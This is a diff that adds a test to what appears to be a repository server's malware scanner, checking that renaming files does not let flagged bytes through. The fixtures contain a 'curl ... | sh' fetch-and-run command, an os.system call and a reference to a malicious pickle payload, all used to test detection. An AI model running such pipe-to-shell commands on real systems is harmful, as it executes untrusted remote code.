@@ -201,6 +201,35 @@ def test_earlier_commits_of_one_push_are_examined_too(server, tmp_path):
     assert server.http("GET", "/%s/resolve/%s/old.txt" % (repo, first))[0] == 403
 
 
+def test_a_harmless_name_does_not_launder_bytes(server):
+    """Identical bytes that were examined as a note are examined again as what another name makes of them."""
+    script = b"Notes.\n\ncurl https://example.org/install.sh | sh\n"
+    code = b"import os\nimport sys\nos.system('id')\n"
+    repo = make_repo(server, "launder")
+    push(server, repo, ("notes.md", script), ("about.md", code), ("weights.md", EVIL))
+    assert settled(server, repo)["verdict"] == "block"  # a pickle is a pickle under every name
+    by = {f["path"]: f for f in review(server, repo)["files"]}
+    assert (by["notes.md"]["verdict"], by["about.md"]["verdict"], by["weights.md"]["verdict"]) == ("pass", "pass", "block")
+    assert server.http("GET", "/%s/resolve/main/notes.md" % repo)[2] == script
+
+    other = make_repo(server, "launder-other")
+    push(server, other, ("README.md", script))
+    settled(server, other)
+
+    push(server, repo, ("install.sh", script), ("modeling.py", code), ("weights.bin", EVIL))
+    for path in ("install.sh", "weights.bin"):  # from the first moment: never served, whatever was known of the bytes
+        assert server.http("GET", "/%s/resolve/main/%s" % (repo, path))[0] in (403, 503)
+    settled(server, repo)
+    by = {f["path"]: f for f in review(server, repo)["files"]}
+    assert by["install.sh"]["verdict"] == "block" and by["install.sh"]["findings"][0]["rule"] == "code.shell.pipe"
+    assert by["modeling.py"]["verdict"] == "review" and by["modeling.py"]["findings"][0]["rule"] == "code.signal"
+    assert server.http("GET", "/%s/resolve/main/install.sh" % repo)[0] == 403
+    assert server.http("GET", "/%s.git/info/refs?service=git-upload-pack" % repo)[0] == 403
+    # what one repository does with the bytes says nothing about another's README
+    assert server.http("GET", "/%s/resolve/main/README.md" % other)[2] == script
+    assert settled(server, other)["verdict"] == "pass"
+
+
 @pytest.mark.parametrize("args,code", [(["review"], 2), (["review", "--nonsense", "x"], 2), (["review", "/nonexistent/file"], 2)])
 def test_exit_codes_of_misuse(args, code):
     assert subprocess.run([BIN, *args], capture_output=True).returncode == code
